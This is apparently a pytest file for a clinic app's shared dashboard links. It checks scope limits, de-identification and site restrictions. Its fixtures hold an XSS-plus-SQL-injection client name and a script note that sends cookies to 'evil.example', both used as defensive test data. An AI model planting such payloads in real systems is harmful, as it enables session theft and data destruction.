"""What a share link shows stays inside its scope, and de-identified links carry no names or notes."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date, timedelta

import pandas as pd
import pytest

from core.sharing import links
from core.library.content import sync_library
from core.commands.demo import DemoSpec, create_demo_practice
from core.sharing.dashboard import PERIODS, SharedDashboard, shared_dashboard
from core.db.store import Store

AS_OF = date(2025, 3, 1)
EVIL_NAME = "<img src=x onerror=alert(1)> Robert'); DROP TABLE clients;--"
EVIL_NOTE = "<script>document.location='https://evil.example/?c='+document.cookie</script>"


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    with Store(tmp_path_factory.mktemp("shared") / "shared.duckdb") as s:
        sync_library(s)
        create_demo_practice(s, DemoSpec(clients=12, days=90, seed=3, as_of=AS_OF))
        with s.transaction() as cur:
            cur.execute("UPDATE clients SET display_name = ? WHERE code = 'C00002'", [EVIL_NAME])
            cur.execute("UPDATE session_logs SET notes = ? WHERE id = (SELECT min(l.id) FROM session_logs l"
                        " JOIN clients c ON c.id = l.client_id WHERE c.code = 'C00002' AND l.session_date > ?)",
                        [EVIL_NOTE, AS_OF - timedelta(days=27)])
        yield s


def link_for(store: Store, scope: str, deidentify: bool = False) -> links.SharedLink:
    made = links.create_link(store, "cli", scope, deidentify=deidentify, base="http://t.example")
    return links.resolve(store, made.url.rsplit("=", 1)[1])


def everything(board: SharedDashboard) -> str:
    """All text a reader of the dashboard could see."""
    parts = [board.title, *board.kpis, *board.kpis.values(), *(figure.to_json() for figure in board.charts)]
    parts += [f"{name}\n{table.to_csv()}" for name, table in board.tables.items()]
    return "\n".join(parts)


def client_names(store: Store) -> dict[str, str]:
    return dict(store.rows("SELECT code, display_name FROM clients"))


def test_a_client_link_shows_that_client_and_nobody_else(store: Store) -> None:
    board = shared_dashboard(store, link_for(store, "client:C00002"), AS_OF, 28)
    assert board.title == f"Progress of {EVIL_NAME}"
    client_id = store.scalar("SELECT id FROM clients WHERE code = 'C00002'")
    sessions = board.tables["Sessions"]
    expected = store.scalar("SELECT count(*) FROM session_logs WHERE client_id = ? AND session_date BETWEEN ? AND ?",
                            [client_id, AS_OF - timedelta(days=27), AS_OF])
    assert len(sessions) == expected > 0
    assert EVIL_NOTE in set(sessions["Notes"])  # kept literally; the page renders it as text
    text = everything(board)
    others = {code: name for code, name in client_names(store).items() if code != "C00002"}
    assert not [name for name in others.values() if name in text]
    assert not [code for code in others if code in text]


def test_a_deidentified_client_link_has_the_code_but_no_name_and_no_notes(store: Store) -> None:
    board = shared_dashboard(store, link_for(store, "client:C00002", deidentify=True), AS_OF, 28)
    assert board.title == "Progress of client C00002"
    text = everything(board)
    assert EVIL_NAME not in text and EVIL_NOTE not in text
    assert "Notes" not in board.tables["Sessions"].columns
    assert not [name for name in client_names(store).values() if name in text]


def test_staff_only_columns_never_reach_a_shared_view(store: Store) -> None:
    board = shared_dashboard(store, link_for(store, "client:C00001"), AS_OF, 91)
    columns = {c for table in board.tables.values() for c in table.columns}
    assert columns.isdisjoint({"email", "conditions", "assigned_by", "assigned_at", "override_reason",
                               "reviewed_by", "red_flags", "client_id", "assignment_id", "Email"})
    assert set(board.tables) == {"Sessions", "Pain response", "Programs"}


def test_a_segment_link_lists_only_clients_of_that_segment(store: Store) -> None:
    board = shared_dashboard(store, link_for(store, "segment:pregnant"), AS_OF, 91)
    roster = board.tables["Clients"]
    pregnant = {code for (code,) in store.rows(
        "SELECT c.code FROM clients c JOIN client_segments s ON s.client_id = c.id WHERE s.segment = 'pregnant'")}
    assert 0 < len(roster) and set(roster["Client"]) <= pregnant
    names = client_names(store)
    assert list(roster["Name"]) == [names[c] for c in roster["Client"]]
    outside = [names[c] for c in names if c not in pregnant]
    assert not [n for n in outside if n in everything(board)]


def test_a_deidentified_segment_link_has_codes_only(store: Store) -> None:
    board = shared_dashboard(store, link_for(store, "segment:runner", deidentify=True), AS_OF, 91)
    assert "Name" not in board.tables["Clients"].columns
    assert not [n for n in client_names(store).values() if n in everything(board)]


def test_a_practice_link_is_aggregates_only(store: Store) -> None:
    board = shared_dashboard(store, link_for(store, "practice"), AS_OF, 28)
    assert board.title == "Practice overview"
    assert set(board.tables) == {"By segment", "By routine", "By therapist"}
    assert set(board.tables["By segment"]["Group"]) <= {"Pregnant", "Runner", "Desk worker", "Other", "No segment"}
    assert len(board.charts) == 3
    text = everything(board)
    assert not [n for n in client_names(store).values() if n in text]
    assert not [c for c in client_names(store) if c in text]
    clients = int(board.kpis["Clients with a program"])
    assert clients == len(pd.unique(store.query(
        """SELECT a.client_id FROM assignments a JOIN clients c ON c.id = a.client_id
           WHERE c.archived_at IS NULL AND a.start_date <= ?
             AND coalesce(a.end_date, a.start_date + 7 * a.weeks - 1) >= ?""",
        [AS_OF, AS_OF - timedelta(days=27)])["client_id"]))


def test_only_the_offered_periods_are_used(store: Store) -> None:
    link = link_for(store, "practice")
    assert shared_dashboard(store, link, AS_OF, 3660).days == PERIODS[0]
    assert shared_dashboard(store, link, AS_OF, 91).days == 91


def test_a_deidentified_link_names_routines_by_template_only(tmp_path) -> None:
    """A routine staff named after a client ("Nico Quinn's knee plan") never reaches a de-identified
    link: template routines keep their names, the staff-made one reads "Own routine 1"; shares
    read as whole percents."""
    from core.practice import assignments, routines

    with Store(tmp_path / "named.duckdb") as s:
        sync_library(s)
        create_demo_practice(s, DemoSpec(clients=6, days=60, seed=3, as_of=AS_OF))
        code, client_id = s.rows("SELECT code, id FROM clients ORDER BY code LIMIT 1")[0]
        template = routines.load_draft(s, "daily-psoas-routine")
        draft = routines.set_details(template, name="Nico Quinn's knee plan", audience=template.audience,
                                     description=template.description)
        saved = routines.save_draft(s, draft, "cli", as_new=True)
        with s.transaction() as cur:  # end the client's programs so the new one is the current one
            cur.execute("UPDATE assignments SET end_date = ? WHERE client_id = ?", [AS_OF - timedelta(days=30), client_id])
        assignments.assign(s, code, saved.routine_id, AS_OF - timedelta(days=20), "cli", AS_OF - timedelta(days=20))
        hidden = shared_dashboard(s, link_for(s, f"client:{code}", deidentify=True), AS_OF, 28)
        named = shared_dashboard(s, link_for(s, f"client:{code}"), AS_OF, 28)
        text = everything(hidden)
        assert "Nico" not in text and saved.routine_id not in text
        assert "Own routine 1" in set(hidden.tables["Programs"]["Routine"])
        assert "Nico Quinn's knee plan" in set(named.tables["Programs"]["Routine"])
        practice = shared_dashboard(s, link_for(s, "practice", deidentify=True), AS_OF, 28)
        adherence = practice.tables["By routine"]["Mean adherence"].dropna()
        assert len(adherence) and all(v.endswith("%") and "." not in v for v in adherence)


# -- sites (issue 19) -----------------------------------------------------------------------------
# The demo's 12 clients are at two sites: Ana Ruiz's and Chloe Martin's at main ("City centre
# studio"), Ben Okafor's at north ("North clinic").

def test_a_link_cut_to_a_site_shows_only_that_sites_clients(store: Store) -> None:
    from core.access.auth import PermissionDenied, create_user
    from core.access.sites import set_member_sites

    site_of = dict(store.rows("SELECT code, site FROM clients"))
    assert set(site_of.values()) == {"main", "north"}
    create_user(store, "cli", "ben", "therapist", "a-long-enough-password")
    set_member_sites(store, "cli", "ben", ["north"])
    made = links.create_link(store, "ben", "segment:runner", base="http://t.example")
    assert made.sites == ("north",)          # a therapist's link carries the therapist's sites
    link = links.resolve(store, made.url.rsplit("=", 1)[1])
    board = shared_dashboard(store, link, AS_OF, 91)
    roster = board.tables["Clients"]
    runners_north = {code for (code,) in store.rows(
        "SELECT c.code FROM clients c JOIN client_segments s ON s.client_id = c.id"
        " WHERE s.segment = 'runner' AND c.site = 'north' AND c.archived_at IS NULL")}
    assert set(roster["Client"]) <= runners_north and len(roster) > 0
    assert board.title == "Segment: Runner · North clinic"
    names = client_names(store)
    assert not [names[c] for c in names if site_of[c] != "north" and names[c] in everything(board)]
    # a practice link cut to main shows main's clients only, in every table
    practice = link_for_sites(store, "practice", ["main"])
    by_therapist = shared_dashboard(store, practice, AS_OF, 91).tables["By therapist"]
    assert set(by_therapist["Group"]) == {"Ana Ruiz", "Chloe Martin"}
    # and a therapist cannot make a link for another site's client, nor widen a link past their sites
    main_client = next(c for c, s in sorted(site_of.items()) if s == "main")
    with pytest.raises(links.LinkError, match="no client"):
        links.create_link(store, "ben", f"client:{main_client}", base="http://t.example")
    with pytest.raises(PermissionDenied, match="only the sites you work at"):
        links.create_link(store, "ben", "segment:runner", base="http://t.example", sites=["main"])


def link_for_sites(store: Store, scope: str, sites: list[str]) -> links.SharedLink:
    made = links.create_link(store, "cli", scope, base="http://t.example", sites=sites)
    return links.resolve(store, made.url.rsplit("=", 1)[1])
